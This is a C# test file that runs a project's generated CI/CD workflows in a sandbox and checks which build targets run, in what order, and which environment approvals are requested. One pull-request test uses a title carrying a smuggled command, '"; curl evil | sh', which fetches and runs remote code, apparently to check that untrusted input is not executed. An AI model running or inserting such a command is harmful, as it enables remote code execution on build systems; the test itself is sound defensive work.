using System.Runtime.CompilerServices;
using Pipeline.Testing;
using Pipeline.Workflows.Generation;
using Pipeline.WorkflowRunner;

namespace Pipeline.Workflows.Tests.Running;

/// <summary>
/// The generated workflows of the storefront, run: which targets they call in which order, and that each job has what it needs
/// from the jobs before, in a clone of its own. The targets themselves are tested elsewhere.
/// </summary>
public sealed class GeneratedWorkflowsTests : IDisposable
{
    private readonly GitSandbox _repository;
    private readonly TempDirectory _root;
    private readonly WorkflowHost _host;
    private readonly string _sha;

    public GeneratedWorkflowsTests()
    {
        Requires.Linux();
        (_repository, _root) = (new GitSandbox(), new TempDirectory());
        _sha = _repository.Commit("feat: begin", [("build.sh", File.ReadAllText(BuildScript())), .. WorkflowGenerator.Generate(SampleModels.Storefront).Select(file => (file.Path, file.Content))]);
        _repository.Git("update-index", "--chmod=+x", "build.sh");
        if (!OperatingSystem.IsWindows())
            File.SetUnixFileMode(Path.Combine(_repository.Path, "build.sh"), (UnixFileMode)0b111_101_101);
        _sha = _repository.Commit("chore: let the build run");
        foreach (var branch in new[] { "development", "hotfix" })
            _repository.Git("branch", branch);
        _host = new WorkflowHost(Path.Combine(_repository.Path, ".git"), _root.Path);
        _host.MachineEnvironment["RECORD"] = Record;
        _host.Secrets["KUBERNETES_CREDENTIALS"] = "kube of nothing";
        _host.Secrets["SLACK_WEBHOOK"] = "https://hooks.example.org/secret";
        _host.Secrets["REGISTRY_PASSWORD"] = "";
        foreach (var environment in new[] { "staging", "pre-prod", "production" })
            _host.EnvironmentSecrets[environment] = new() { ["KUBERNETES_CREDENTIALS"] = "kube of " + environment };
        File.WriteAllText(Record, "");
    }

    private string Record => _root["record"];

    private IReadOnlyList<string> Calls => [.. File.ReadAllLines(Record).Select(line => line[(line.IndexOf(' ', StringComparison.Ordinal) + 1)..])];

    public void Dispose()
    {
        _repository.Dispose();
        _root.Dispose();
    }

    [Theory]
    [InlineData(WorkflowHost.Repository)]
    [InlineData("mallory/storefront")]
    public async Task A_pull_request_into_development_checks_the_changed_modules_and_deploys_nothing(string from)
    {
        using var run = await RunAsync("pull-request.yml", WorkflowEvent.PullRequest(1, "feature", "development", _sha, from, "\"; curl evil | sh"));

        Assert.Equal(
            [
                "Clone BuildImage --layers-of dev --module orders --skip", "Clone BuildImage --layers-of dev --module web --skip", "GenerateWorkflows --verify-workflows", "Modules --changed-since origin/development",
                "Scan --module orders --skip", "Scan --module web --skip", "UnitTest --module orders --skip", "UnitTest --module web --skip",
            ],
            Calls.Order(StringComparer.Ordinal));
        Assert.Equal("skipped", run.Jobs["modules"].Result);
        Assert.Empty(_host.Approvals);
    }

    [Fact]
    public async Task A_pull_request_of_this_repository_into_main_passes_all_stages_in_pre_prod()
    {
        using var run = await RunAsync("pull-request.yml", WorkflowEvent.PullRequest(2, "development", "main", _sha, WorkflowHost.Repository, "Release"));

        Assert.Equal("skipped", run.Jobs["check"].Result);
        Assert.Equal("success", run.Jobs["deploy-pre-prod / deploy"].Result);
        Assert.Equal(["Deploy --environment pre-prod --skip", "IntegrationTest --environment pre-prod --skip"], Calls.TakeLast(2));
        Assert.Equal(["pre-prod"], _host.Approvals);
    }

    [Fact]
    public async Task A_pull_request_of_a_fork_into_main_is_only_checked()
    {
        using var run = await RunAsync("pull-request.yml", WorkflowEvent.PullRequest(3, "main", "main", _sha, "mallory/storefront", "Mine"));

        Assert.Equal("success", run.Jobs["check"].Result);
        Assert.Equal("skipped", run.Jobs["modules"].Result);
        Assert.Equal("skipped", run.Jobs["deploy-pre-prod"].Result);
        Assert.DoesNotContain(Calls, call => call.StartsWith("Push", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("merge-development.yml", "development")]
    [InlineData("hotfix.yml", "hotfix")]
    public async Task A_merge_takes_every_module_through_its_stages_and_deploys_to_staging(string file, string branch)
    {
        using var run = await RunAsync(file, WorkflowEvent.Push(branch, _sha));

        foreach (var module in new[] { "catalog", "orders", "web" })
            AssertInOrder($"Clone BuildImage --layers-of dev --module {module} --skip", $"Scan --module {module} --skip", $"Push --moving-tag dev --module {module} --skip", $"Chart --module {module} --skip", "Deploy --environment staging --skip");
        Assert.Equal(["Deploy --environment staging --skip", "IntegrationTest --environment staging --skip", "Notify --outcome success"], Calls.TakeLast(3));
        Assert.Equal(["staging"], _host.Approvals);
    }

    [Fact]
    public async Task A_merge_into_main_deploys_to_production_tags_last_and_updates_the_branches()
    {
        using var run = await RunAsync("merge-main.yml", WorkflowEvent.Push("main", _sha));

        AssertInOrder("Chart --module web --skip", "Deploy --environment production --skip", "IntegrationTest --environment production --skip", "Tag --remote origin --skip", "UpdateBranches --from main --into development hotfix", "Notify --outcome success");
        AssertInOrder("Tag --remote origin --skip", "TagImages --skip", "Release --skip", "Notify --outcome success");
        AssertInOrder("VersionPlan", "ReleaseNotes --skip", "Release --skip");
        AssertInOrder("Push --moving-tag  --module web --skip", "Chart --module web --skip");
        Assert.Equal(["production"], _host.Approvals);
        Assert.Equal(_sha, _repository.Git("rev-parse", "pushed-by-tag"));
    }

    [Theory]
    [InlineData("merge-main.yml", "push")]
    [InlineData("release.yml", "workflow_dispatch")]
    public async Task Versions_are_planned_once_a_run_and_the_plan_is_handed_on(string file, string trigger)
    {
        using var run = await RunAsync(file, new WorkflowEvent(trigger, "refs/heads/main", _sha));

        Assert.Single(Calls, call => call.Contains("VersionPlan", StringComparison.Ordinal));
        Assert.Equal(["version-plan.json"], Directory.GetFiles(run.Artifacts.FolderOf("version-plan"), "*", SearchOption.AllDirectories).Select(Path.GetFileName));
        Assert.True(File.Exists(Path.Combine(run.Artifacts.FolderOf("release-notes"), "release-notes.md")));
    }

    [Fact]
    public async Task Production_that_nobody_approves_is_neither_deployed_nor_tagged()
    {
        _host.Approve = environment => environment != "production";
        using var run = await _host.RunAsync("merge-main.yml", WorkflowEvent.Push("main", _sha));

        Assert.Equal("failure", run.Result);
        Assert.DoesNotContain(Calls, call => call.StartsWith("Deploy", StringComparison.Ordinal) || call.StartsWith("Tag", StringComparison.Ordinal));
        Assert.Equal("Notify --outcome failure", Calls[^1]);
    }

    [Fact]
    public async Task A_module_that_fails_stops_no_other_and_repeating_the_failed_jobs_finishes_the_run()
    {
        _host.MachineEnvironment["FAIL_ONCE"] = _root["fail"];
        File.WriteAllText(_root["fail"], "");
        using var run = await _host.RunAsync("merge-development.yml", WorkflowEvent.Push("development", _sha));
        Assert.Equal(("failure", "success"), (run.Result, run.Jobs["modules (web) / chart"].Result));
        Assert.DoesNotContain(Calls, call => call.StartsWith("Deploy", StringComparison.Ordinal));
        var before = Calls.Count;

        await run.RerunFailedAsync();

        Assert.Equal("success", run.Result);
        Assert.Equal(
            ["Push --moving-tag dev --module orders --skip", "Chart --module orders --skip", "Deploy --environment staging --skip", "IntegrationTest --environment staging --skip", "Notify --outcome success"],
            Calls.Skip(before));
    }

    [Fact]
    public async Task A_module_chosen_by_hand_is_built_from_the_chosen_branch_and_published()
    {
        _repository.Git("checkout", "-q", "hotfix");
        var hotfix = _repository.Commit("fix: urgent");
        using var run = await RunAsync("push-module.yml", WorkflowEvent.Dispatch("main", _sha, ("module", "orders"), ("branch", "hotfix")));

        Assert.Equal(hotfix, run.Jobs["source"].Outputs["commit"]!.ToString());
        Assert.Equal("Chart --module orders --skip", Calls[^1]);
        Assert.DoesNotContain(Calls, call => call.Contains("web", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_planned_release_passes_pre_prod_before_production()
    {
        using var run = await RunAsync("release.yml", new WorkflowEvent("workflow_dispatch", "refs/heads/main", _sha));

        AssertInOrder("Deploy --environment pre-prod --skip", "IntegrationTest --environment pre-prod --skip", "Deploy --environment production --skip", "IntegrationTest --environment production --skip", "Tag --remote origin --skip", "TagImages --skip", "Release --skip");
        AssertInOrder("VersionPlan", "ReleaseNotes --skip", "Release --skip");
        Assert.Equal(["pre-prod", "production"], _host.Approvals);
    }

    [Fact]
    public async Task A_rollback_is_approved_like_a_deployment()
    {
        using var run = await RunAsync("rollback.yml", WorkflowEvent.Dispatch("main", _sha, ("environment", "production")));
        Assert.Equal(["Rollback --environment production"], Calls);
        Assert.Equal(["production"], _host.Approvals);
    }

    [Fact]
    public async Task A_versions_tag_is_checked_and_packed_before_anybody_is_asked_and_published_after_the_approval()
    {
        _repository.Commit("ci: publish to a feed of our own", [.. WorkflowGenerator.Generate(SampleModels.WithFeedKey).Select(file => (file.Path, file.Content))]);
        _repository.Git("tag", "v1.2.3");
        _host.EnvironmentSecrets["packages"] = new() { ["PACKAGE_KEY"] = "key of packages" };
        _host.Approve = environment => environment == "packages" && Calls.Count == 2;

        using var run = await RunAsync("publish-packages.yml", new WorkflowEvent("push", "refs/tags/v1.2.3", _repository.Git("rev-parse", "HEAD")));

        Assert.Equal(["CheckPackageTag --package-tag v1.2.3", "Pack --package-tag v1.2.3", "PublishPackages --package-tag v1.2.3 --skip"], Calls);
        Assert.Equal(["packages"], _host.Approvals);
    }

    private static string BuildScript([CallerFilePath] string file = "") => Path.Combine(Path.GetDirectoryName(file)!, "build.sh");

    private async Task<WorkflowRun> RunAsync(string file, WorkflowEvent trigger)
    {
        var run = await _host.RunAsync(file, trigger);
        Assert.True(run.Result == "success", string.Join('\n', run.Jobs.Where(job => job.Value.Result == "failure").Select(job => $"{job.Key}: {(File.Exists(run.LogPathOf(job.Key)) ? run.LogOf(job.Key) : "")}")));
        return run;
    }

    private void AssertInOrder(params string[] expected)
    {
        var places = expected.Select(call => Calls.ToList().IndexOf(call)).ToList();
        Assert.True(places[0] >= 0 && places.Zip(places.Skip(1)).All(pair => pair.First < pair.Second), $"Expected in order:\n{string.Join('\n', expected)}\nCalled:\n{string.Join('\n', Calls)}");
    }
}
